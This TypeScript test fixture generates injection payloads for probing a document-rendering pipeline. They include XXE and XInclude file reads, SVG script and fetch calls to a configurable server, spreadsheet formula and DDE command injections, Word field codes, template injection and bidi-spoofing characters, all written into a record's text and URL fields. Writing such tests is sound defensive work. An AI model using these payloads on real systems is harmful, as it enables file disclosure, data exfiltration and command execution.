import type { NegotiationRecord } from "@/lib/domain/model";

/** Where a hostile text would like to reach: a file, and a server, without scheme. */
export interface Targets {
  readonly file: string;
  readonly server: string;
}

/** Attacks on every language that a file is written in, each asking for the file or the server. */
export const listAttacks = ({ file, server }: Targets): readonly string[] => [
  `#read("${file}") #include "${file}" #image("${file}") #import "${file}": *`,
  `\`\`\`typst #eval("read(\\"${file}\\")")\`\`\` $x^2$ @source-1 <source-1> // c`,
  `*/ ] } "); #read("${file}"); #(`,
  `"/><image href="file://${file}"/><use xlink:href="http://${server}/u#x"/>`,
  `</text></svg><script href="http://${server}/s">fetch("http://${server}/f")</script>`,
  `</metadata><style>@import url(http://${server}/c); * { fill: url(file://${file}) }</style>`,
  `<foreignObject><iframe src="http://${server}/i"/><img src=x onerror="alert(1)"></foreignObject>`,
  `]]><!DOCTYPE x [<!ENTITY e SYSTEM "file://${file}">]>&e;<?xml-stylesheet href="http://${server}/x"?>`,
  `<xi:include href="file://${file}"/> &#0; &#xD800; &e; xml:space="preserve"`,
  `![a](http://${server}/m.png) ![b](file://${file}) [c](javascript:alert(1)) <http://${server}/a>`,
  `| a | b |\n|---|\n# head\n<!-- c --> [d]: http://${server}/d`,
  `=WEBSERVICE("http://${server}/w")`,
  `+HYPERLINK("http://${server}/h","x")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `-1+DDE("cmd";"/C calc";"x")`,
  `\t=1+1`,
  `INCLUDEPICTURE "http://${server}/p" \\d { INCLUDETEXT "${file}" } DDEAUTO c:\\\\x "calc"`,
  `</w:t></w:r><w:r><w:instrText>INCLUDETEXT "${file}"</w:instrText></w:r>`,
  `</a:t></a:r><a:hlinkClick r:id="rId1" action="ppaction://program"/> _x0041_ _x000D_`,
  `{{constructor.constructor("x")()}} \${x} %s %n <%= x %> {page} {pages}`,
  "\u202Eexe.fdp\u202C \u2066\u05D0\u05D1\u2069 \u200F\u200B\u00AD\uFEFF",
  `\u0000\u0001\u0007\u001B[31m\uD800 \uDC00\uD83D \uFFFE\uFFFF \u{1FFFF} \u0085\u2028\u2029`,
  `${"a\u0301\u0327\u0489\u20DD".repeat(20)} ${"👩‍👩‍👧‍👦🏳️‍🌈".repeat(6)} ${"W".repeat(90)}`,
];

/* What readers see of a record; keys and codes are checked elsewhere. */
const TEXTS = new Set(
  ["title", "short", "label", "summary", "question", "publisher", "condition", "reason", "rationale"].concat([
    "correction",
    "dateNote",
    "note",
    "speaker",
    "role",
    "text",
    "translator",
    "unit",
    "description",
  ]),
);
const ADDRESSES = new Set(["url", "archiveUrl"]);

/** The record with an attack in place of every text, one after the other, and hostile addresses. */
export function attackRecord(record: NegotiationRecord, targets: Targets): NegotiationRecord {
  const attacks = listAttacks(targets);
  const addresses = [
    `file://${targets.file}`,
    "javascript:alert(1)",
    `http://${targets.server}/"><x>#read("y")`,
  ];
  let [texts, urls] = [0, 0];
  return JSON.parse(JSON.stringify(record), (key, value: unknown) => {
    if (typeof value !== "string") return value;
    if (ADDRESSES.has(key)) return addresses[urls++ % addresses.length];
    return TEXTS.has(key) ? attacks[texts++ % attacks.length] : value;
  });
}
